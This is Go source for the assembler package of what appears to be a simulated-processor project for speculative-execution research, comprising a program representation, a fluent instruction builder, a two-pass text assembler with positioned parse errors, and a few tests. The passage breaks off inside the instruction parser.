	if got := uint64(p.Insts[3].Imm); got != 0x7ff800000000beef {
		t.Fatalf("nan payload = %#x", got)
	}
}

func TestParseHexDirective(t *testing.T) {
	p := MustParse("t", ".data 0x300000\nblob: .hex deadbeef\nhalt")
	if got := p.MustSym("blob"); got != 0x300000 {
		t.Fatalf("blob = %#x", got)
	}
	if len(p.Segments) != 1 || !bytes.Equal(p.Segments[0].Data, []byte{0xde, 0xad, 0xbe, 0xef}) {
		t.Fatalf("segments = %+v", p.Segments)
	}
	if _, err := Parse("t", ".hex abc"); err == nil || !strings.Contains(err.Error(), "even number") {
		t.Fatalf("odd .hex: err = %v", err)
	}
}

// Parse errors carry file, line, column and the offending token.
func TestParseErrorPosition(t *testing.T) {
	src := "nop\nnop\n  add r1, q7, r3\nhalt"
	_, err := Parse("t", src)
	if err == nil {
		t.Fatal("want error")
	}
	var pe *ParseError
	if !errors.As(err, &pe) {
		t.Fatalf("err %T is not *ParseError: %v", err, err)
	}
	if pe.File != "t" || pe.Line != 3 || pe.Tok != "q7" {
		t.Fatalf("position = %q line %d tok %q", pe.File, pe.Line, pe.Tok)
	}
	if wantCol := strings.Index("  add r1, q7, r3", "q7") + 1; pe.Col != wantCol {
		t.Fatalf("col = %d, want %d", pe.Col, wantCol)
	}
	if s := err.Error(); !strings.Contains(s, "t:3:") || !strings.Contains(s, "q7") {
		t.Fatalf("error text %q lacks position", s)
	}
}
