// Package asm provides the tooling for writing programs for the simulated
// processor: an in-memory program representation, a fluent builder API used
// by the attack-gadget and workload generators, and a two-pass text
// assembler for hand-written programs.
package asm

import (
	"fmt"

	"specrun/internal/isa"
	"specrun/internal/mem"
)

// Segment is a chunk of initialised data.
type Segment struct {
	Addr uint64
	Data []byte
}

// Program is an assembled program: decoded instructions at Base, initialised
// data segments, and a symbol table.
type Program struct {
	Base     uint64
	Insts    []isa.Inst
	Segments []Segment
	Symbols  map[string]uint64
}

// InstAt returns the instruction at pc, if pc lies inside the program text
// and is instruction-aligned.
func (p *Program) InstAt(pc uint64) (isa.Inst, bool) {
	if pc < p.Base || (pc-p.Base)%isa.InstBytes != 0 {
		return isa.Inst{}, false
	}
	idx := (pc - p.Base) / isa.InstBytes
	if idx >= uint64(len(p.Insts)) {
		return isa.Inst{}, false
	}
	return p.Insts[idx], true
}

// End returns the first byte address past the program text.
func (p *Program) End() uint64 {
	return p.Base + uint64(len(p.Insts))*isa.InstBytes
}

// Sym looks up a symbol.
func (p *Program) Sym(name string) (uint64, bool) {
	v, ok := p.Symbols[name]
	return v, ok
}

// MustSym looks up a symbol and panics if it is undefined.  Experiment
// drivers use it for addresses they themselves defined.
func (p *Program) MustSym(name string) uint64 {
	v, ok := p.Symbols[name]
	if !ok {
		panic(fmt.Sprintf("asm: undefined symbol %q", name))
	}
	return v
}

// LoadInto writes the program's data segments into a memory image.
// Instruction memory is fetched from the Program directly (decoupled
// functional/timing model), so text is not copied.
func (p *Program) LoadInto(m *mem.Memory) {
	for _, s := range p.Segments {
		m.SetBytes(s.Addr, s.Data)
	}
}
