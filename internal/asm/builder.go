package asm

import (
	"encoding/binary"
	"fmt"
	"math"

	"specrun/internal/isa"
)

// Builder assembles a program from Go code.  Methods append instructions;
// Label defines code labels (forward references are patched at Build);
// Alloc reserves data storage and records the symbol.
//
// The zero Builder is not usable; call NewBuilder.
type Builder struct {
	base       uint64
	insts      []isa.Inst
	syms       map[string]uint64
	pending    map[string][]int // label -> indices of insts whose Target needs patching
	pendingImm map[string][]int // label -> indices of insts whose Imm needs patching
	segs       []Segment
	dataCursor uint64
	errs       []error
}

// NewBuilder starts a program whose text begins at codeBase and whose data
// allocation cursor starts at dataBase.
func NewBuilder(codeBase, dataBase uint64) *Builder {
	return &Builder{
		base:       codeBase,
		syms:       make(map[string]uint64),
		pending:    make(map[string][]int),
		pendingImm: make(map[string][]int),
		dataCursor: dataBase,
	}
}

// PC returns the address of the next instruction to be emitted.
func (b *Builder) PC() uint64 { return b.base + uint64(len(b.insts))*isa.InstBytes }

func (b *Builder) errf(format string, args ...any) {
	b.errs = append(b.errs, fmt.Errorf("asm: "+format, args...))
}

// Label defines name at the current PC.
func (b *Builder) Label(name string) {
	if _, dup := b.syms[name]; dup {
		b.errf("duplicate symbol %q", name)
		return
	}
	b.syms[name] = b.PC()
}

// Equ defines name as an arbitrary constant symbol.
func (b *Builder) Equ(name string, value uint64) {
	if _, dup := b.syms[name]; dup {
		b.errf("duplicate symbol %q", name)
		return
	}
	b.syms[name] = value
}

// Alloc reserves size bytes of (zeroed) data storage aligned to align and
// records name as its address.
func (b *Builder) Alloc(name string, size, align uint64) uint64 {
	if align == 0 {
		align = 1
	}
	b.dataCursor = (b.dataCursor + align - 1) &^ (align - 1)
	addr := b.dataCursor
	b.dataCursor += size
	if name != "" {
		b.Equ(name, addr)
	}
	return addr
}

// Bytes places initialised data at addr.
func (b *Builder) Bytes(addr uint64, data []byte) {
	cp := make([]byte, len(data))
	copy(cp, data)
	b.segs = append(b.segs, Segment{Addr: addr, Data: cp})
}

// U64 places 64-bit little-endian words at addr.
func (b *Builder) U64(addr uint64, vals ...uint64) {
	data := make([]byte, 8*len(vals))
	for i, v := range vals {
		binary.LittleEndian.PutUint64(data[i*8:], v)
	}
	b.segs = append(b.segs, Segment{Addr: addr, Data: data})
}

// emit appends an instruction.
func (b *Builder) emit(in isa.Inst) {
	b.insts = append(b.insts, in)
}

// emitTo appends an instruction whose Target refers to a label.
func (b *Builder) emitTo(in isa.Inst, label string) {
	if addr, ok := b.syms[label]; ok {
		in.Target = addr
		b.emit(in)
		return
	}
	b.pending[label] = append(b.pending[label], len(b.insts))
	b.emit(in)
}

// Integer ALU.

func (b *Builder) Add(rd, rs1, rs2 isa.Reg) {
	b.emit(isa.Inst{Op: isa.ADD, Rd: rd, Rs1: rs1, Rs2: rs2})
}
func (b *Builder) Sub(rd, rs1, rs2 isa.Reg) {
	b.emit(isa.Inst{Op: isa.SUB, Rd: rd, Rs1: rs1, Rs2: rs2})
}
func (b *Builder) Mul(rd, rs1, rs2 isa.Reg) {
	b.emit(isa.Inst{Op: isa.MUL, Rd: rd, Rs1: rs1, Rs2: rs2})
}
func (b *Builder) Div(rd, rs1, rs2 isa.Reg) {
	b.emit(isa.Inst{Op: isa.DIV, Rd: rd, Rs1: rs1, Rs2: rs2})
}
func (b *Builder) And(rd, rs1, rs2 isa.Reg) {
	b.emit(isa.Inst{Op: isa.AND, Rd: rd, Rs1: rs1, Rs2: rs2})
}
func (b *Builder) Or(rd, rs1, rs2 isa.Reg) { b.emit(isa.Inst{Op: isa.OR, Rd: rd, Rs1: rs1, Rs2: rs2}) }
func (b *Builder) Xor(rd, rs1, rs2 isa.Reg) {
	b.emit(isa.Inst{Op: isa.XOR, Rd: rd, Rs1: rs1, Rs2: rs2})
}
func (b *Builder) Shl(rd, rs1, rs2 isa.Reg) {
	b.emit(isa.Inst{Op: isa.SHL, Rd: rd, Rs1: rs1, Rs2: rs2})
}
func (b *Builder) Shr(rd, rs1, rs2 isa.Reg) {
	b.emit(isa.Inst{Op: isa.SHR, Rd: rd, Rs1: rs1, Rs2: rs2})
}

func (b *Builder) Addi(rd, rs1 isa.Reg, imm int64) {
	b.emit(isa.Inst{Op: isa.ADDI, Rd: rd, Rs1: rs1, Imm: imm})
}
func (b *Builder) Andi(rd, rs1 isa.Reg, imm int64) {
	b.emit(isa.Inst{Op: isa.ANDI, Rd: rd, Rs1: rs1, Imm: imm})
}
func (b *Builder) Ori(rd, rs1 isa.Reg, imm int64) {
	b.emit(isa.Inst{Op: isa.ORI, Rd: rd, Rs1: rs1, Imm: imm})
}
func (b *Builder) Xori(rd, rs1 isa.Reg, imm int64) {
	b.emit(isa.Inst{Op: isa.XORI, Rd: rd, Rs1: rs1, Imm: imm})
}
func (b *Builder) Shli(rd, rs1 isa.Reg, imm int64) {
	b.emit(isa.Inst{Op: isa.SHLI, Rd: rd, Rs1: rs1, Imm: imm})
}
func (b *Builder) Shri(rd, rs1 isa.Reg, imm int64) {
	b.emit(isa.Inst{Op: isa.SHRI, Rd: rd, Rs1: rs1, Imm: imm})
}

// Movi loads a 64-bit immediate.
func (b *Builder) Movi(rd isa.Reg, imm int64) { b.emit(isa.Inst{Op: isa.MOVI, Rd: rd, Imm: imm}) }

// MoviAddr loads an address constant.
func (b *Builder) MoviAddr(rd isa.Reg, addr uint64) { b.Movi(rd, int64(addr)) }

// MoviLabel loads the address of a (possibly forward) code label.
func (b *Builder) MoviLabel(rd isa.Reg, label string) {
	if addr, ok := b.syms[label]; ok {
		b.Movi(rd, int64(addr))
		return
	}
	b.pendingImm[label] = append(b.pendingImm[label], len(b.insts))
	b.Movi(rd, 0)
}

// Mov copies a register (encoded as ADDI rd, rs, 0).
func (b *Builder) Mov(rd, rs isa.Reg) { b.Addi(rd, rs, 0) }

// Loads and stores.

func (b *Builder) Ld(rd, base isa.Reg, imm int64) {
	b.emit(isa.Inst{Op: isa.LD, Rd: rd, Rs1: base, Imm: imm})
}
func (b *Builder) Ldb(rd, base isa.Reg, imm int64) {
	b.emit(isa.Inst{Op: isa.LDB, Rd: rd, Rs1: base, Imm: imm})
}
func (b *Builder) Ldx(rd, base, idx isa.Reg, scale uint8, imm int64) {
	b.emit(isa.Inst{Op: isa.LDX, Rd: rd, Rs1: base, Rs2: idx, Scale: scale, Imm: imm})
}
func (b *Builder) Ldbx(rd, base, idx isa.Reg, scale uint8, imm int64) {
	b.emit(isa.Inst{Op: isa.LDBX, Rd: rd, Rs1: base, Rs2: idx, Scale: scale, Imm: imm})
}
func (b *Builder) St(base isa.Reg, imm int64, src isa.Reg) {
	b.emit(isa.Inst{Op: isa.ST, Rs1: base, Imm: imm, Rs3: src})
}
func (b *Builder) Stb(base isa.Reg, imm int64, src isa.Reg) {
	b.emit(isa.Inst{Op: isa.STB, Rs1: base, Imm: imm, Rs3: src})
}
func (b *Builder) Stx(base, idx isa.Reg, scale uint8, imm int64, src isa.Reg) {
	b.emit(isa.Inst{Op: isa.STX, Rs1: base, Rs2: idx, Scale: scale, Imm: imm, Rs3: src})
}
func (b *Builder) Stbx(base, idx isa.Reg, scale uint8, imm int64, src isa.Reg) {
	b.emit(isa.Inst{Op: isa.STBX, Rs1: base, Rs2: idx, Scale: scale, Imm: imm, Rs3: src})
}

// Branches (label targets, forward references allowed).

func (b *Builder) Beq(rs1, rs2 isa.Reg, label string) {
	b.emitTo(isa.Inst{Op: isa.BEQ, Rs1: rs1, Rs2: rs2}, label)
}
func (b *Builder) Bne(rs1, rs2 isa.Reg, label string) {
	b.emitTo(isa.Inst{Op: isa.BNE, Rs1: rs1, Rs2: rs2}, label)
}
func (b *Builder) Blt(rs1, rs2 isa.Reg, label string) {
	b.emitTo(isa.Inst{Op: isa.BLT, Rs1: rs1, Rs2: rs2}, label)
}
func (b *Builder) Bge(rs1, rs2 isa.Reg, label string) {
	b.emitTo(isa.Inst{Op: isa.BGE, Rs1: rs1, Rs2: rs2}, label)
}
func (b *Builder) Bltu(rs1, rs2 isa.Reg, label string) {
	b.emitTo(isa.Inst{Op: isa.BLTU, Rs1: rs1, Rs2: rs2}, label)
}
func (b *Builder) Bgeu(rs1, rs2 isa.Reg, label string) {
	b.emitTo(isa.Inst{Op: isa.BGEU, Rs1: rs1, Rs2: rs2}, label)
}
func (b *Builder) Jmp(label string)  { b.emitTo(isa.Inst{Op: isa.JMP}, label) }
func (b *Builder) Call(label string) { b.emitTo(isa.Inst{Op: isa.CALL}, label) }
func (b *Builder) Jr(rs isa.Reg)     { b.emit(isa.Inst{Op: isa.JR, Rs1: rs}) }
func (b *Builder) Callr(rs isa.Reg)  { b.emit(isa.Inst{Op: isa.CALLR, Rs1: rs}) }
func (b *Builder) Ret()              { b.emit(isa.Inst{Op: isa.RET}) }

// JmpAddr jumps to an absolute address (for cross-region gadget jumps).
func (b *Builder) JmpAddr(addr uint64) { b.emit(isa.Inst{Op: isa.JMP, Target: addr}) }

// CallAddr calls an absolute address.
func (b *Builder) CallAddr(addr uint64) { b.emit(isa.Inst{Op: isa.CALL, Target: addr}) }

// Cache and measurement.

func (b *Builder) Clflush(base isa.Reg, imm int64) {
	b.emit(isa.Inst{Op: isa.CLFLUSH, Rs1: base, Imm: imm})
}
func (b *Builder) Rdtsc(rd isa.Reg) { b.emit(isa.Inst{Op: isa.RDTSC, Rd: rd}) }

// Floating point.

func (b *Builder) Fld(fd, base isa.Reg, imm int64) {
	b.emit(isa.Inst{Op: isa.FLD, Rd: fd, Rs1: base, Imm: imm})
}
func (b *Builder) Fldx(fd, base, idx isa.Reg, scale uint8, imm int64) {
	b.emit(isa.Inst{Op: isa.FLD, Rd: fd, Rs1: base, Rs2: idx, Scale: scale, Imm: imm})
}
func (b *Builder) Fst(base isa.Reg, imm int64, src isa.Reg) {
	b.emit(isa.Inst{Op: isa.FST, Rs1: base, Imm: imm, Rs3: src})
}
func (b *Builder) Fstx(base, idx isa.Reg, scale uint8, imm int64, src isa.Reg) {
	b.emit(isa.Inst{Op: isa.FST, Rs1: base, Rs2: idx, Scale: scale, Imm: imm, Rs3: src})
}
func (b *Builder) Fadd(fd, fs1, fs2 isa.Reg) {
	b.emit(isa.Inst{Op: isa.FADD, Rd: fd, Rs1: fs1, Rs2: fs2})
}
func (b *Builder) Fsub(fd, fs1, fs2 isa.Reg) {
	b.emit(isa.Inst{Op: isa.FSUB, Rd: fd, Rs1: fs1, Rs2: fs2})
}
func (b *Builder) Fmul(fd, fs1, fs2 isa.Reg) {
	b.emit(isa.Inst{Op: isa.FMUL, Rd: fd, Rs1: fs1, Rs2: fs2})
}
func (b *Builder) Fdiv(fd, fs1, fs2 isa.Reg) {
	b.emit(isa.Inst{Op: isa.FDIV, Rd: fd, Rs1: fs1, Rs2: fs2})
}
func (b *Builder) Fmovi(fd isa.Reg, v float64) {
	b.emit(isa.Inst{Op: isa.FMOVI, Rd: fd, Imm: int64(math.Float64bits(v))})
}

// Vector.

func (b *Builder) Vld(vd, base isa.Reg, imm int64) {
	b.emit(isa.Inst{Op: isa.VLD, Rd: vd, Rs1: base, Imm: imm})
}
func (b *Builder) Vst(base isa.Reg, imm int64, src isa.Reg) {
	b.emit(isa.Inst{Op: isa.VST, Rs1: base, Imm: imm, Rs3: src})
}
func (b *Builder) Vaddq(vd, vs1, vs2 isa.Reg) {
	b.emit(isa.Inst{Op: isa.VADDQ, Rd: vd, Rs1: vs1, Rs2: vs2})
}
func (b *Builder) Vxorq(vd, vs1, vs2 isa.Reg) {
	b.emit(isa.Inst{Op: isa.VXORQ, Rd: vd, Rs1: vs1, Rs2: vs2})
}

// Miscellaneous.

func (b *Builder) Nop()   { b.emit(isa.Inst{Op: isa.NOP}) }
func (b *Builder) Fence() { b.emit(isa.Inst{Op: isa.FENCE}) }
func (b *Builder) Halt()  { b.emit(isa.Inst{Op: isa.HALT}) }

// NopN emits n NOPs (Fig. 10/11 padding).
func (b *Builder) NopN(n int) {
	for i := 0; i < n; i++ {
		b.Nop()
	}
}

// Build resolves forward references, validates every instruction and returns
// the program.
func (b *Builder) Build() (*Program, error) {
	for label, sites := range b.pending {
		addr, ok := b.syms[label]
		if !ok {
			b.errf("undefined label %q", label)
			continue
		}
		for _, idx := range sites {
			b.insts[idx].Target = addr
		}
	}
	for label, sites := range b.pendingImm {
		addr, ok := b.syms[label]
		if !ok {
			b.errf("undefined label %q", label)
			continue
		}
		for _, idx := range sites {
			b.insts[idx].Imm = int64(addr)
		}
	}
	for i, in := range b.insts {
		if err := in.Validate(); err != nil {
			b.errf("inst %d (%#x): %v", i, b.base+uint64(i)*isa.InstBytes, err)
		}
	}
	if len(b.errs) > 0 {
		return nil, b.errs[0]
	}
	return &Program{
		Base:     b.base,
		Insts:    b.insts,
		Segments: b.segs,
		Symbols:  b.syms,
	}, nil
}

// MustBuild is Build that panics on error, for generators whose inputs are
// program constants.
func (b *Builder) MustBuild() *Program {
	p, err := b.Build()
	if err != nil {
		panic(err)
	}
	return p
}

// SymNow returns the current value of a symbol already defined on the
// builder (labels, Equ constants and Alloc addresses).  Unlike Program.Sym
// it is usable while the program is still being built.
func (b *Builder) SymNow(name string) (uint64, bool) {
	v, ok := b.syms[name]
	return v, ok
}

// MustSymNow is SymNow for symbols the caller just defined.
func (b *Builder) MustSymNow(name string) uint64 {
	v, ok := b.syms[name]
	if !ok {
		panic(fmt.Sprintf("asm: undefined symbol %q", name))
	}
	return v
}

// PadTo emits NOPs until the next instruction would be placed at addr
// (alignment filler for BTB-aliasing layouts).
func (b *Builder) PadTo(addr uint64) {
	if addr < b.PC() || (addr-b.base)%isa.InstBytes != 0 {
		b.errf("PadTo(%#x): behind current pc %#x or unaligned", addr, b.PC())
		return
	}
	for b.PC() < addr {
		b.Nop()
	}
}
