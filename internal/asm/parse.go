package asm

import (
	"encoding/hex"
	"fmt"
	"math"
	"strconv"
	"strings"

	"specrun/internal/isa"
)

// ParseError is an assembly error with source-position context: the file and
// 1-based line, and — when the parser can attribute the failure to a single
// token — the 1-based column where that token starts and the token itself.
type ParseError struct {
	File string
	Line int
	Col  int    // 1-based column of the offending token; 0 when unknown
	Tok  string // offending token; empty when the whole line is at fault
	Msg  string
}

func (e *ParseError) Error() string {
	pos := fmt.Sprintf("%s:%d", e.File, e.Line)
	if e.Col > 0 {
		pos += ":" + strconv.Itoa(e.Col)
	}
	if e.Tok != "" {
		return fmt.Sprintf("%s: %s (near %q)", pos, e.Msg, e.Tok)
	}
	return pos + ": " + e.Msg
}

// Parse assembles source text into a Program.  The dialect:
//
//	; comment            (also "#" and "//")
//	.org 0x1000          set the text base (before any instruction)
//	.data 0x100000       set the data cursor
//	.align 64            align the data cursor
//	.equ name 0x42       define a constant symbol
//	label:               define a code label (or data label before a directive)
//	buf: .zero 256       reserve zeroed data
//	tab: .u64 1, 2, 3    initialised 64-bit words
//	msg: .byte 1, 2      initialised bytes
//	s:   .ascii "text"   initialised string
//	h:   .hex deadbeef   initialised raw bytes (one segment per line)
//
//	add r1, r2, r3       ALU register forms
//	addi r1, r2, -5      ALU immediate forms
//	movi r1, array1      symbols allowed wherever immediates are
//	fmovi f0, 1.5        float immediates: decimal, 0x1.8p+00, nan:0x<bits>
//	ld r1, [r2 + 8]      loads; also [r2], [r2 + r3*8 + off]
//	st [r2 + 8], r3      stores
//	beq r1, r2, label    branches; targets are labels or absolute addresses
//	clflush [r2]         flush; rdtsc r1; call f; ret; nop; fence; halt
//
// Assembly is two-pass: pass one sizes text/data and collects symbols, pass
// two emits instructions with all symbols resolved.  Errors carry positions:
// errors.As against *ParseError yields file, line, column and token.
func Parse(name, src string) (*Program, error) {
	p := &parser{
		file: name,
		syms: make(map[string]uint64),
		base: 0x1000,
		data: 0x100000,
	}
	if err := p.run(src, 1); err != nil {
		return nil, err
	}
	p.reset()
	if err := p.run(src, 2); err != nil {
		return nil, err
	}
	prog := &Program{Base: p.base, Insts: p.insts, Segments: p.segs, Symbols: p.syms}
	for i, in := range prog.Insts {
		if err := in.Validate(); err != nil {
			return nil, fmt.Errorf("%s: instruction %d: %v", name, i, err)
		}
	}
	return prog, nil
}

// MustParse is Parse that panics on error, for source constants.
func MustParse(name, src string) *Program {
	p, err := Parse(name, src)
	if err != nil {
		panic(err)
	}
	return p
}

// ValidSymbol reports whether name is a legal assembly identifier, usable as
// a label or .equ name.  The binary codec enforces the same alphabet so every
// decoded symbol table survives disassembly.
func ValidSymbol(name string) bool {
	return isIdent(name)
}

type parser struct {
	file    string
	base    uint64
	baseSet bool
	pc      uint64
	data    uint64
	syms    map[string]uint64
	insts   []isa.Inst
	segs    []Segment
	pass    int
	lineNo  int    // 1-based line currently being parsed
	raw     string // raw text of that line, for column recovery
}

func (p *parser) reset() {
	p.pc = p.base
	p.data = 0x100000
	p.baseSet = false
	p.insts = nil
	p.segs = nil
}

// tokErr builds a ParseError at the current line, locating tok in the raw
// source text to recover its column.
func (p *parser) tokErr(tok, format string, args ...any) error {
	tok = strings.TrimSpace(tok)
	col := 0
	if tok != "" {
		if i := strings.Index(p.raw, tok); i >= 0 {
			col = i + 1
		}
	}
	return &ParseError{File: p.file, Line: p.lineNo, Col: col, Tok: tok, Msg: fmt.Sprintf(format, args...)}
}

// lineErr builds a ParseError covering the whole current line.
func (p *parser) lineErr(format string, args ...any) error {
	return &ParseError{File: p.file, Line: p.lineNo, Msg: fmt.Sprintf(format, args...)}
}

// parseReg wraps isa.ParseReg with token position context.
func (p *parser) parseReg(s string) (isa.Reg, error) {
	r, err := isa.ParseReg(strings.TrimSpace(s))
	if err != nil {
		return r, p.tokErr(s, "%v", err)
	}
	return r, nil
}

func (p *parser) run(src string, pass int) error {
	p.pass = pass
	p.pc = p.base
	for lineNo, raw := range strings.Split(src, "\n") {
		p.lineNo, p.raw = lineNo+1, raw
		line := stripComment(raw)
		line = strings.TrimSpace(line)
		if line == "" {
			continue
		}
		if err := p.line(line); err != nil {
			if _, ok := err.(*ParseError); ok {
				return err
			}
			return &ParseError{File: p.file, Line: p.lineNo, Msg: err.Error()}
		}
	}
	return nil
}

func stripComment(s string) string {
	for _, sep := range []string{";", "#", "//"} {
		// Do not cut inside string literals.
		inStr := false
		for i := 0; i+len(sep) <= len(s); i++ {
			if s[i] == '"' {
				inStr = !inStr
			}
			if !inStr && strings.HasPrefix(s[i:], sep) {
				return s[:i]
			}
		}
	}
	return s
}

func (p *parser) define(name string, v uint64) error {
	if p.pass == 2 {
		return nil // already collected in pass one
	}
	if _, dup := p.syms[name]; dup {
		return p.tokErr(name, "duplicate symbol %q", name)
	}
	p.syms[name] = v
	return nil
}

// dataDirectives are the directives that emit or reserve data: a label
// sharing their line names the data cursor, not the current PC.
var dataDirectives = []string{".zero", ".u64", ".byte", ".ascii", ".hex"}

func (p *parser) line(line string) error {
	// Peel off "label:" prefixes.
	for {
		idx := strings.Index(line, ":")
		if idx < 0 {
			break
		}
		head := strings.TrimSpace(line[:idx])
		if !isIdent(head) {
			break
		}
		rest := strings.TrimSpace(line[idx+1:])
		// A label before a data directive names the data cursor; before an
		// instruction (or nothing) it names the current PC.
		isData := false
		for _, d := range dataDirectives {
			if strings.HasPrefix(rest, d) {
				isData = true
				break
			}
		}
		if isData {
			if err := p.define(head, p.data); err != nil {
				return err
			}
		} else {
			if err := p.define(head, p.pc); err != nil {
				return err
			}
		}
		line = rest
		if line == "" {
			return nil
		}
	}
	if strings.HasPrefix(line, ".") {
		return p.directive(line)
	}
	return p.instruction(line)
}

func isIdent(s string) bool {
	if s == "" {
		return false
	}
	for i, c := range s {
		switch {
		case c >= 'a' && c <= 'z', c >= 'A' && c <= 'Z', c == '_', c == '.':
		case c >= '0' && c <= '9':
			if i == 0 {
				return false
			}
		default:
			return false
		}
	}
	return true
}

func splitArgs(s string) []string {
	var out []string
	depth := 0
	start := 0
	for i := 0; i < len(s); i++ {
		switch s[i] {
		case '[':
			depth++
		case ']':
			depth--
		case ',':
			if depth == 0 {
				out = append(out, strings.TrimSpace(s[start:i]))
				start = i + 1
			}
		}
	}
	tail := strings.TrimSpace(s[start:])
	if tail != "" {
		out = append(out, tail)
	}
	return out
}

func (p *parser) directive(line string) error {
	fields := strings.SplitN(line, " ", 2)
	dir := fields[0]
	rest := ""
	if len(fields) == 2 {
		rest = strings.TrimSpace(fields[1])
	}
	switch dir {
	case ".org":
		v, err := p.immediate(rest)
		if err != nil {
			return err
		}
		if len(p.insts) > 0 || (p.pass == 1 && p.pc != p.base) {
			return p.lineErr(".org after instructions")
		}
		p.base, p.baseSet = uint64(v), true
		p.pc = p.base
		return nil
	case ".data":
		v, err := p.immediate(rest)
		if err != nil {
			return err
		}
		p.data = uint64(v)
		return nil
	case ".align":
		v, err := p.immediate(rest)
		if err != nil {
			return err
		}
		a := uint64(v)
		if a == 0 || a&(a-1) != 0 {
			return p.tokErr(rest, ".align %d is not a power of two", a)
		}
		p.data = (p.data + a - 1) &^ (a - 1)
		return nil
	case ".equ":
		parts := strings.Fields(rest)
		if len(parts) != 2 {
			return p.lineErr(".equ wants name and value")
		}
		v, err := p.immediate(parts[1])
		if err != nil {
			return err
		}
		return p.define(parts[0], uint64(v))
	case ".zero":
		v, err := p.immediate(rest)
		if err != nil {
			return err
		}
		p.data += uint64(v)
		return nil
	case ".u64":
		args := splitArgs(rest)
		if p.pass == 2 {
			vals := make([]uint64, len(args))
			for i, a := range args {
				v, err := p.immediate(a)
				if err != nil {
					return err
				}
				vals[i] = uint64(v)
			}
			data := make([]byte, 8*len(vals))
			for i, v := range vals {
				for j := 0; j < 8; j++ {
					data[i*8+j] = byte(v >> (8 * j))
				}
			}
			p.segs = append(p.segs, Segment{Addr: p.data, Data: data})
		}
		p.data += 8 * uint64(len(args))
		return nil
	case ".byte":
		args := splitArgs(rest)
		if p.pass == 2 {
			data := make([]byte, len(args))
			for i, a := range args {
				v, err := p.immediate(a)
				if err != nil {
					return err
				}
				data[i] = byte(v)
			}
			p.segs = append(p.segs, Segment{Addr: p.data, Data: data})
		}
		p.data += uint64(len(args))
		return nil
	case ".ascii":
		s, err := strconv.Unquote(rest)
		if err != nil {
			return p.tokErr(rest, ".ascii: %v", err)
		}
		if p.pass == 2 {
			p.segs = append(p.segs, Segment{Addr: p.data, Data: []byte(s)})
		}
		p.data += uint64(len(s))
		return nil
	case ".hex":
		if len(rest)%2 != 0 {
			return p.tokErr(rest, ".hex wants an even number of hex digits")
		}
		if p.pass == 2 {
			data, err := hex.DecodeString(rest)
			if err != nil {
				return p.tokErr(rest, ".hex: %v", err)
			}
			p.segs = append(p.segs, Segment{Addr: p.data, Data: data})
		}
		p.data += uint64(len(rest) / 2)
		return nil
	}
	return p.tokErr(dir, "unknown directive %q", dir)
}

// immediate evaluates an integer literal or symbol.  During pass one symbols
// may be unresolved; zero is substituted (only sizes matter in pass one).
func (p *parser) immediate(s string) (int64, error) {
	s = strings.TrimSpace(s)
	if s == "" {
		return 0, p.lineErr("missing immediate")
	}
	neg := false
	if strings.HasPrefix(s, "-") {
		neg, s = true, strings.TrimSpace(s[1:])
	}
	var v int64
	if u, err := strconv.ParseUint(s, 0, 64); err == nil {
		v = int64(u)
	} else if isIdent(s) {
		sym, ok := p.syms[s]
		if !ok {
			if p.pass == 1 {
				return 0, nil
			}
			return 0, p.tokErr(s, "undefined symbol %q", s)
		}
		v = int64(sym)
	} else {
		return 0, p.tokErr(s, "bad immediate %q", s)
	}
	if neg {
		v = -v
	}
	return v, nil
}

// memOperand parses "[base]", "[base + off]", "[base + idx*scale]",
// "[base + idx*scale + off]"; off may be negative or symbolic.
func (p *parser) memOperand(s string) (base, idx isa.Reg, scale uint8, imm int64, err error) {
	s = strings.TrimSpace(s)
	if !strings.HasPrefix(s, "[") || !strings.HasSuffix(s, "]") {
		return 0, 0, 0, 0, p.tokErr(s, "bad memory operand %q", s)
	}
	inner := s[1 : len(s)-1]
	// Normalise "a - b" to "a + -b" so we can split on '+'.
	inner = strings.ReplaceAll(inner, "-", "+ -")
	parts := strings.Split(inner, "+")
	first := true
	for _, part := range parts {
		part = strings.TrimSpace(part)
		if part == "" {
			continue
		}
		switch {
		case first:
			base, err = p.parseReg(part)
			if err != nil {
				return
			}
			first = false
		case strings.Contains(part, "*"):
			var r isa.Reg
			var sc int64
			sub := strings.SplitN(part, "*", 2)
			r, err = p.parseReg(sub[0])
			if err != nil {
				return
			}
			sc, err = p.immediate(sub[1])
			if err != nil {
				return
			}
			switch sc {
			case 1, 2, 4, 8, 16:
				scale = uint8(log2(uint64(sc)))
			default:
				err = p.tokErr(part, "bad scale %d", sc)
				return
			}
			idx = r
		default:
			if r, rerr := isa.ParseReg(part); rerr == nil && !strings.HasPrefix(part, "-") {
				if idx != isa.NoReg {
					err = p.tokErr(part, "two index registers in %q", s)
					return
				}
				idx = r // [base + idx] with scale 1
				continue
			}
			var v int64
			v, err = p.immediate(part)
			if err != nil {
				return
			}
			imm += v
		}
	}
	if first {
		err = p.tokErr(s, "memory operand %q has no base register", s)
	}
	return
}

func log2(v uint64) int {
	n := 0
	for v > 1 {
		v >>= 1
		n++
	}
	return n
}

// floatImm parses an fmovi operand: a Go float literal (decimal or hex
// form), or "nan:0x<bits>" carrying an exact 64-bit payload.  The canonical
// emitter writes hex-float / nan: forms, so parse → emit → parse is
// bit-exact.
func (p *parser) floatImm(s string) (int64, error) {
	s = strings.TrimSpace(s)
	if rest, ok := strings.CutPrefix(s, "nan:"); ok {
		bits, err := strconv.ParseUint(rest, 0, 64)
		if err != nil {
			return 0, p.tokErr(s, "fmovi: bad nan payload: %v", err)
		}
		return int64(bits), nil
	}
	f, err := strconv.ParseFloat(s, 64)
	if err != nil {
		return 0, p.tokErr(s, "fmovi: %v", err)
	}
	return int64(math.Float64bits(f)), nil
}

func (p *parser) instruction(line string) error {
	mnemonic := line
	rest := ""
	if i := strings.IndexAny(line, " \t"); i >= 0 {
		mnemonic, rest = line[:i], strings.TrimSpace(line[i+1:])
	}
	mnemonic = strings.ToLower(mnemonic)

	// Pseudo-instruction: mov rd, rs.
	if mnemonic == "mov" {
		args := splitArgs(rest)
		if len(args) != 2 {
			return p.lineErr("mov wants 2 operands")
		}
		rd, err := p.parseReg(args[0])
		if err != nil {
			return err
		}
		rs, err := p.parseReg(args[1])
		if err != nil {
			return err
		}
		p.emit(isa.Inst{Op: isa.ADDI, Rd: rd, Rs1: rs})
		return nil
	}

	op, ok := isa.OpcodeByName(mnemonic)
	if !ok {
		return p.tokErr(mnemonic, "unknown mnemonic %q", mnemonic)
	}
	args := splitArgs(rest)
	in := isa.Inst{Op: op}
	need := func(n int) error {
		if len(args) != n {
			return p.lineErr("%s wants %d operands, got %d", op, n, len(args))
		}
		return nil
	}
	var err error
	switch op.Kind() {
	case isa.KindALU:
